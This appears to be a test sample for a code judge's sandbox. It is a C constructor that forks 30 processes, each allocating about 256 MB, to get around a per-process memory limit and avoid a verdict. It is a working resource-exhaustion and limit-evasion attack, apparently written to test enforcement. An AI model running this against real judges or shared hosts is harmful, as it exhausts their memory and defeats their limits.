// ---
// tries: Takes memory in 30 processes, each of which stays below the limit of one.
// place: before
// deserves: nothing
// gain: no verdict, so that the attempt may not count
// helps: memory-limit
// ---
__attribute__((constructor)) static void attack(void) {
  const size_t size = 16 << 20;
  for (int i = 0; i < 30; i++) {
    if (fork() != 0) continue;
    for (int block = 0; block < 16; block++) {
      char *memory = (char *)malloc(size);
      if (memory != NULL) memset(memory, 1, size);
    }
    sleep(3);
    _exit(1);
  }
  sleep(3);
  _exit(1);
}
